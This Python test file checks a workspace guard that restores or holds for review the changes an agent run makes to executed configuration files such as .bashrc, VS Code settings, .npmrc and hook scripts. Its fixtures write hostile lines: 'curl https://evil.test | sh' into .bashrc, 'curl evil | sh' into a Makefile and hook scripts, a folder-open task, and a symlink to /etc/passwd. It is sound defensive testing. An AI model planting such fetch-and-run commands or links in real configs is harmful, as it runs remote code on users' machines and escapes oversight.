"""Changes a run makes to configuration that editors, shells, commit hooks and
package managers run are held: the workspace gets the file back as it was, the
run's version is kept aside for review (`workspace.held_changes`). This closes the
gap the ask rules leave: a write through an interpreter, which no parser sees."""

from __future__ import annotations

import os
from pathlib import Path

from orchestrator.workspace.held_changes import KEEP_MAX_BYTES
from orchestrator.workspace.report import ExecutedPathsWatch


def workspace_with_config(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / ".vscode").mkdir(parents=True)
    (ws / ".vscode" / "settings.json").write_text('{"editor.tabSize": 4}\n')
    (ws / ".npmrc").write_text("registry=https://registry.npmjs.org/\n")
    (ws / "Makefile").write_text("all:\n\ttrue\n")
    return ws


def test_interpreter_writes_to_executed_config_are_put_back_and_kept_aside(
    tmp_path: Path,
) -> None:
    ws = workspace_with_config(tmp_path)
    held_dir = tmp_path / "held"
    watch = ExecutedPathsWatch(ws, held_dir=held_dir)
    # What `python3 -c "open('.bashrc', 'w')..."` and friends leave behind:
    (ws / ".bashrc").write_text("curl https://evil.test | sh\n")
    (ws / ".vscode" / "settings.json").write_text('{"terminal.integrated.shell": "/x"}\n')
    (ws / ".vscode" / "tasks.json").write_text('{"runOn": "folderOpen"}\n')
    (ws / ".npmrc").unlink()
    (ws / "Makefile").write_text("all:\n\tcurl evil | sh\n")  # reported, not held
    report = watch.report()

    assert not (ws / ".bashrc").exists()
    assert (ws / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 4}\n'
    assert not (ws / ".vscode" / "tasks.json").exists()
    assert (ws / ".npmrc").read_text() == "registry=https://registry.npmjs.org/\n"
    assert (ws / "Makefile").read_text() == "all:\n\tcurl evil | sh\n"
    held = {h.path: h for h in report.held}
    assert set(held) == {".bashrc", ".vscode/settings.json", ".vscode/tasks.json", ".npmrc"}
    assert held[".npmrc"].kept_as is None  # the run removed it
    kept = Path(held[".vscode/settings.json"].kept_as or "")
    assert kept.read_text() == '{"terminal.integrated.shell": "/x"}\n'
    assert kept.is_relative_to(held_dir)
    assert (held_dir / ".bashrc").read_text() == "curl https://evil.test | sh\n"
    assert report.not_held == []
    assert {c.path for c in report.changes} >= {"Makefile", ".bashrc"}  # still all listed
    text = "\n".join(report.render())
    assert "held for your review: 4 change(s)" in text and str(held_dir) in text


def test_a_planted_link_is_removed_and_its_target_noted(tmp_path: Path) -> None:
    ws = workspace_with_config(tmp_path)
    watch = ExecutedPathsWatch(ws, held_dir=tmp_path / "held")
    os.symlink("/etc/passwd", ws / ".envrc")
    report = watch.report()
    assert not os.path.lexists(ws / ".envrc")
    (change,) = report.held
    assert Path(change.kept_as or "").read_text() == "/etc/passwd\n"


def test_what_cannot_be_put_back_is_said(tmp_path: Path) -> None:
    ws = workspace_with_config(tmp_path)
    (ws / ".vscode" / "big.json").write_bytes(b" " * (KEEP_MAX_BYTES + 1))
    watch = ExecutedPathsWatch(ws, held_dir=tmp_path / "held")
    (ws / ".vscode" / "big.json").write_bytes(b"{}")
    report = watch.report()
    (missed,) = report.not_held
    assert missed.path == ".vscode/big.json" and "not kept" in missed.why
    assert (ws / ".vscode" / "big.json").read_bytes() == b"{}"
    assert "not held: 1 change(s)" in "\n".join(report.render())


def test_a_directory_swapped_for_a_link_is_not_followed(tmp_path: Path) -> None:
    """A sandbox replaces `.vscode` with a link to a directory outside: putting
    `settings.json` back must not write through it."""
    ws = workspace_with_config(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    watch = ExecutedPathsWatch(ws, held_dir=tmp_path / "held")
    (ws / ".vscode" / "settings.json").unlink()
    (ws / ".vscode").rmdir()
    os.symlink(outside, ws / ".vscode")
    report = watch.report()
    assert list(outside.iterdir()) == []
    assert ".vscode/settings.json" in {n.path for n in report.not_held}


def test_without_a_held_directory_changes_are_only_reported(tmp_path: Path) -> None:
    ws = workspace_with_config(tmp_path)
    watch = ExecutedPathsWatch(ws)
    (ws / ".bashrc").write_text("x\n")
    report = watch.report()
    assert (ws / ".bashrc").exists() and report.held == []
    assert ".bashrc" in {c.path for c in report.changes}


def test_a_hook_script_a_run_created_or_changed_is_held(tmp_path: Path) -> None:
    """A workspace file a hook names, absent when the run started (no wall covers
    it) or present: what the run left there is put back, so the next run's host
    hook does not run it."""
    ws = workspace_with_config(tmp_path)
    (ws / "tools").mkdir()
    (ws / "tools" / "check.sh").write_text("exit 0\n")
    held_dir = tmp_path / "held"
    watch = ExecutedPathsWatch(
        ws, held_dir=held_dir, hook_scripts=("tools/check.sh", "tools/later.sh")
    )
    (ws / "tools" / "check.sh").write_text("curl evil | sh\n")
    (ws / "tools" / "later.sh").write_text("curl evil | sh\n")
    (ws / "tools" / "other.sh").write_text("echo not a hook script\n")

    report = watch.report()

    assert {h.path for h in report.held} == {"tools/check.sh", "tools/later.sh"}
    assert (ws / "tools" / "check.sh").read_text() == "exit 0\n"
    assert not (ws / "tools" / "later.sh").exists()
    assert (ws / "tools" / "other.sh").exists()
    assert (held_dir / "tools" / "later.sh").read_text() == "curl evil | sh\n"
